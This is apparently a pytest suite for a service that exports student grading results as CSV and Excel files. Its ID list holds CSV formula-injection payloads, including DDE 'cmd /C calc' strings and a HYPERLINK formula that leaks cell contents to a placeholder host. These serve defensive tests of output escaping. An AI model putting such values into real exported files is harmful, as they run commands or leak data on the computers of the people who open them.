"""Results as files: what a table holds, in which language's form, and as what it is asked for."""

import csv
import io
import json
import os
import tempfile
import time
from collections.abc import Iterator
from contextlib import AsyncExitStack
from pathlib import Path
from typing import Any

import pytest

from orchestrator.api import results
from orchestrator.api.errors import ApiError
from orchestrator.api.exports.columns import ALL_COLUMNS, COLUMNS, Cell
from orchestrator.api.exports.formats import XLSX, find_format
from orchestrator.api.exports.formulas import guarded
from orchestrator.api.exports.locales import COMMA, POINT, find_locale
from orchestrator.api.exports.tables import TABLES, make_table, pieces
from orchestrator.provenance import columns
from tests.open_files import open_files
from tests.orchestrator import workbook
from tests.orchestrator.client import make_items
from tests.orchestrator.conftest import Running, Start
from tests.orchestrator.raw import connected, head
from tests.small_disk import fill
from tests.triton_process import TritonProcess

# As names of students, since those come back as they were sent; the last three are numbers.
IDS = [
    "A1;=1+1;",
    'A2;=HYPERLINK("http://x/?"&A1)',
    "＝1+1",
    "\u00a0=1+1",
    " =1+1",
    "\u3000\u200b＋1",
    '"=1+1"',
    ';"=1+1&"',
    "a\r\n=1+1",
    "a\u2028@SUM(1)",
    "a\t-1+1",
    "a|=1+1",
    "a =1+1",
    "a:=1+1",
    'a:"-A1',
    "+1|cmd' /C calc'!A0",
    "Bé,=cmd|' /C calc'!A0,x",
    "\ufeff﹦1",
    "\0=1+1",
    "\x1f@x",
    "-12",
    "+34",
    "3,5",
]
NUMBERS = IDS[-3:]
SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫"


async def fetch(client: Running, path: str, **headers: str) -> tuple[bytes, dict[str, str]]:
    async with client.session.get(client.base + path, headers=headers) as answer:
        assert answer.status == 200
        return await answer.read(), dict(answer.headers)


def read_csv(content: bytes, separator: str = ",") -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=separator))


def csv_of(texts: list[str], separator: str = ",") -> bytes:
    locale = COMMA if separator == ";" else POINT
    rows: list[list[Cell]] = [[index, text, 3, text, 0.5] for index, text in enumerate(texts)]
    return b"".join(
        pieces(make_table("csv", ["index", "id", "nota", "feedback", "confidence"], locale), rows)
    )


def xlsx_of(rows: list[list[Cell]], *names: str) -> bytes:
    return b"".join(pieces(make_table("xlsx", names, POINT), rows))


async def test_a_table_can_be_read_anywhere(start: Start, scripted_triton: TritonProcess) -> None:
    """CSV begins with a byte order mark and quotes every cell; a locale has its separator and decimals."""
    async with start(scripted_triton) as client:
        job_id = await client.submit(make_items(12, "bé; prou, o no"))
        await client.stream(job_id)
        usual, headers = await fetch(client, f"/results/{job_id}?format=csv")
        catalan, _ = await fetch(client, f"/results/{job_id}?format=csv&locale=ca")
        _, as_json, _ = await client.call("GET", f"/results/{job_id}")
    assert headers["Content-Type"] == "text/csv; charset=utf-8"
    assert headers["Content-Disposition"] == f'attachment; filename="results-{job_id}.csv"'
    assert usual.startswith(b'\xef\xbb\xbf"index","id_alumno","nota",')
    assert catalan.startswith(b'\xef\xbb\xbf"index";"id_alumno";"nota";')
    for line in usual.decode("utf-8-sig").splitlines():
        assert line.startswith('"')
        assert line.endswith('"')
    assert '"0","A0","3","Resposta: ' in usual.decode()
    assert as_json["results"][0]["share_kept"] == 1.0
    assert read_csv(usual)[0]["share_kept"] == "1.0"
    assert read_csv(catalan, ";")[0]["share_kept"] == "1,0"
    assert tuple(read_csv(usual)[0]) == COLUMNS
    others = set(COLUMNS) - {"share_kept"}
    for row, other in zip(read_csv(usual), read_csv(catalan, ";"), strict=True):
        assert {name: row[name] for name in others} == {name: other[name] for name in others}


async def test_columns_are_chosen_by_name(start: Start, scripted_triton: TritonProcess) -> None:
    """In the order asked for, with what was sent among them; an unknown name is 400 with the known ones."""
    items = make_items(12)
    items[3]["respuesta"] = " "
    async with start(scripted_triton) as client:
        job_id = await client.submit(items)
        await client.stream(job_id)
        query = "columns=respuesta,nota,%20id_alumno,consigna,curso"
        content, _ = await fetch(client, f"/results/{job_id}?format=csv&{query}")
        book, _ = await fetch(client, f"/results/{job_id}?format=xlsx&{query}")
        status, error, _ = await client.call("GET", f"/results/{job_id}?format=csv&columns=nota,name")
        for query in ("columns=nota", "locale=ca", "format=ndjson&columns=nota"):
            refused, no_table, _ = await client.call("GET", f"/results/{job_id}?{query}")
            assert (refused, no_table["code"]) == (400, "not_a_table")
    rows = read_csv(content)
    assert list(rows[0]) == ["respuesta", "nota", "id_alumno", "consigna", "curso"]
    for row, item in zip(rows, items, strict=True):
        assert {name: row[name] for name in item} == item
    assert [row.get("nota") for row in workbook.rows(book)] == [3.0 if i != 3 else None for i in range(12)]
    assert [row["respuesta"] for row in workbook.rows(book)] == [item["respuesta"] for item in items]
    assert (status, error["code"]) == (400, "unknown_column")
    assert error["details"] == {"unknown": ["name"], "columns": list(ALL_COLUMNS)}


async def test_a_workbook_holds_what_was_sent(start: Start, scripted_triton: TritonProcess) -> None:
    """Numbers are numbers, no text is a formula or a number, ids are exact, and the header stays in sight."""
    items = make_items(len(IDS))
    for item, name in zip(items, IDS, strict=True):
        item["id_alumno"] = name
    async with start(scripted_triton) as client:
        job_id = await client.submit(items)
        await client.stream(job_id)
        book, headers = await fetch(client, f"/results/{job_id}", Accept=XLSX)
        _, as_json, _ = await client.call("GET", f"/results/{job_id}")
    assert headers["Content-Type"] == XLSX
    assert headers["Content-Disposition"].endswith('.xlsx"')
    rows = workbook.rows(book)
    told = as_json["results"]
    for name in ("index", "nota", "attempts", "share_kept"):
        assert [row[name] for row in rows] == [result[name] for result in told]
    shown = [name.replace("\r\n", "\n").translate({0: 0xFFFD, 0x1F: 0xFFFD}) for name in IDS]
    assert [row["id_alumno"] for row in rows] == shown
    assert [result["id_alumno"] for result in told] == IDS
    assert not workbook.formulas(book)
    sheet = workbook.sheet_xml(book)
    assert 'state="frozen"' in sheet
    assert "<cols>" in sheet
    assert "autoFilter" in sheet


def test_what_a_workbook_cannot_hold_is_shown() -> None:
    """Control characters become visible, and a text beyond the limit of Excel's cells ends in a sign."""
    texts = ["a\0b\x1fc\ufffe", "x" * 32_768, "🎈" * 16_384, "🎈" * 16_383, "_x0041_", "a\r\nb\rc"]
    book = xlsx_of([[text] for text in texts], "text")
    found = [str(row["text"]) for row in workbook.rows(book)]
    assert found[0] == "a\ufffdb\ufffdc\ufffd"
    assert found[1].endswith("xx […]")
    assert found[2].endswith("🎈 […]")
    assert all(len(text.encode("utf-16-le")) <= 2 * 32_767 for text in found)
    assert found[3] == texts[3]
    assert found[4].replace("_x005F_", "_") == texts[4]
    assert found[5] == "a\nb\nc"


@pytest.mark.parametrize("written", [",", ";"])
@pytest.mark.parametrize("read", [",", ";", "\t", "|", ":", "\n"])
def test_no_piece_of_a_line_begins_with_a_sign(written: str, read: str) -> None:
    """Split at each separator by a reader that knows no quotes, no piece is one, whatever is dropped."""
    lines = csv_of([name for name in IDS if name not in NUMBERS], written).decode("utf-8-sig").splitlines()
    pieces = [piece for line in lines for piece in line.split(read)]
    assert len(pieces) > len(IDS)
    for piece in pieces:
        first = piece.lstrip('" \u00a0\u3000\u200b\ufeff\t\0\ufffd\x1f')[:1]
        assert first not in set(SIGNS), piece


def test_ids_that_are_numbers_join() -> None:
    """A number is no formula, so it stays what it is; what is guarded loses its `'` to who wants it back."""
    found = [row["id"] for row in read_csv(csv_of(IDS))]
    assert found[-3:] == NUMBERS
    assert [name.replace("'", "") for name in found] == [
        name.replace("\0", "\ufffd").replace("'", "") for name in IDS
    ]


@pytest.mark.parametrize(
    "text",
    [
        "Fa -3 graus.",
        "2+2=4",
        "un punt - un altre",
        "anna@escola.cat",
        "x = 3",
        "pont-aqüeducte",
        "",
        "’=’",
        "Bé :-) :-D",
        "1:-3",
    ],
)
def test_ordinary_texts_are_left_alone(text: str) -> None:
    assert guarded(text) == text


@pytest.mark.parametrize(
    "piece", ["\n", " ", '"', "=", "-", ", ", ';"', "\u200b", "1", " =", "|\u200b", " \t", ":=", ":-a"]
)
def test_guarding_takes_linear_time(piece: str) -> None:
    """Eight times the text takes about eight times as long, whatever it is made of."""

    def seconds(count: int) -> float:
        text = "x" + piece * count
        started = time.process_time()
        guarded(text)
        return time.process_time() - started

    small = min(seconds(20_000) for _ in range(3))
    assert min(seconds(160_000) for _ in range(3)) < 40 * small + 0.05


@pytest.mark.parametrize(
    ("name", "separator", "decimal"),
    [
        ("ca", ";", ","),
        ("ca-ES", ";", ","),
        ("ca_ES.UTF-8", ";", ","),
        ("ca-ES-valencia", ";", ","),
        ("CA", ";", ","),
        ("es", ";", ","),
        ("es-AR", ";", ","),
        ("es-MX", ",", "."),
        ("es-419", ",", "."),
        ("fr", ";", ","),
        ("de", ";", ","),
        ("de-CH", ";", "."),
        ("it", ";", ","),
        ("pt-BR", ";", ","),
        ("en", ",", "."),
        ("en-GB", ",", "."),
        ("zh-Hans-CN", ",", "."),
        ("sr-Latn-RS", ";", ","),
    ],
)
def test_locales(name: str, separator: str, decimal: str) -> None:
    locale = find_locale(name)
    assert (locale.separator, locale.decimal) == (separator, decimal)


@pytest.mark.parametrize("name", ["", "xx", "catalan", "ca;", "../ca", "ca" * 5000])
def test_an_unknown_locale_is_refused_with_some_that_are_known(name: str) -> None:
    with pytest.raises(ApiError) as refused:
        find_locale(name)
    assert (refused.value.status, refused.value.code) == (400, "unknown_locale")
    assert "es-MX" in refused.value.message


@pytest.mark.parametrize(
    ("accept", "expected"),
    [
        ([], "json"),
        (["*/*"], "json"),
        (["text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"], "json"),
        (["text/csv"], "csv"),
        (["TEXT/CSV; charset=utf-8"], "csv"),
        (["application/json;q=0.5, text/csv"], "csv"),
        (["text/csv;q=0.4, application/json"], "json"),
        (["text/csv, application/json"], "csv"),
        (["text/csv;q=0"], "json"),
        (["text/csv;q=0, application/x-ndjson;q=0.1"], "ndjson"),
        (["application/json;q=0, text/*"], "csv"),
        ([f"{XLSX};q=0.9", "*/*;q=0.1"], "xlsx"),
        (["text/html"], "json"),
        (["text/csv;q=viel, application/jsonl"], "ndjson"),
    ],
)
def test_the_accept_header_chooses_a_format(accept: list[str], expected: str) -> None:
    assert find_format(None, accept) == expected


@pytest.mark.parametrize("model", [None, "name", ["name"], {}])
def test_a_provenance_of_another_shape_leaves_cells_empty(model: Any) -> None:
    """What Triton tells is not ours: an export does not fail over it."""
    cells = columns(json.loads(json.dumps({"model": model, "sampling": {"seed": 1}})))
    assert (cells["model"], cells["sampling"]) == (None, '{"seed":1}')


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_a_table_grows_in_parts(form: str) -> None:
    """Rows that come in parts make the same file as all at once; it is given out in small pieces."""
    rows: list[list[Cell]] = [[index, "é" * 1000] for index in range(500)]
    whole = b"".join(pieces(make_table(form, ["n", "t"], POINT), rows))
    table = make_table(form, ["n", "t"], POINT)
    try:
        parts = [piece for start in range(0, 500, 70) for piece in table.add(rows[start : start + 70])]
        parts += table.finish()
    finally:
        table.close()
    if form == "csv":
        assert b"".join(parts) == whole
        assert len(parts) > 5
    else:
        assert workbook.rows(b"".join(parts)) == workbook.rows(whole)


def test_a_workbook_that_is_given_up_leaves_no_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Texts of students lie in temporary files only while a workbook is made."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))

    def failing() -> Iterator[list[Cell]]:
        yield ["text"]
        assert list(tmp_path.iterdir())
        raise LookupError

    with pytest.raises(LookupError):
        list(pieces(make_table("xlsx", ["t"], POINT), failing()))
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize("form", TABLES)
async def test_no_room_for_a_table_is_said(
    start: Start, scripted_triton: TritonProcess, small_disk: Path, monkeypatch: pytest.MonkeyPatch, form: str
) -> None:
    """Without a folder for it, or on a full disk: 503, nothing stays open, and later it works."""

    def left() -> list[str]:
        return [name for name in open_files(os.getpid()) if name.startswith(str(folder))]

    folder = small_disk / "temporary"
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    async with start(scripted_triton) as client:
        job_id = await client.submit(make_items(40))
        await client.stream(job_id)
        path = f"/results/{job_id}?format={form}"
        status, answer, _ = await client.call("GET", path)
        assert (status, answer["code"]) == (503, "storage_unavailable")
        folder.mkdir()
        filler = fill(small_disk)
        status, answer, _ = await client.call("GET", path)
        assert (status, answer["code"]) == (503, "storage_unavailable")
        assert (left(), list(folder.iterdir())) == ([], [])
        filler.unlink()
        content, _ = await fetch(client, path)
        assert len(content) > 100
        assert (left(), list(folder.iterdir())) == ([], [])


async def test_who_left_is_made_no_table(
    start: Start, scripted_triton: TritonProcess, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Those that wait for their turn and go away hold up nobody who stays."""
    async with start(scripted_triton, max_concurrent_exports=1) as client:
        job_id = await client.submit(make_items(3))
        await client.stream(job_id)
        path = f"/results/{job_id}?format=csv"
        made = []

        def noted(*arguments: Any) -> Any:
            made.append(arguments)
            return make_table(*arguments)

        monkeypatch.setattr(results, "make_table", noted)
        async with client.service.exports:
            async with AsyncExitStack() as stack:
                for _ in range(5):
                    raw = await stack.enter_async_context(connected(client))
                    await raw.send(head("GET", path))
                while client.service.tables._value > client.service.settings.max_open_tables - 5:
                    await client.call("GET", "/health/live")
            while "avalua_connections 1.0" not in (await client.call("GET", "/metrics"))[1]:
                pass
        await fetch(client, path)
        assert len(made) == 1
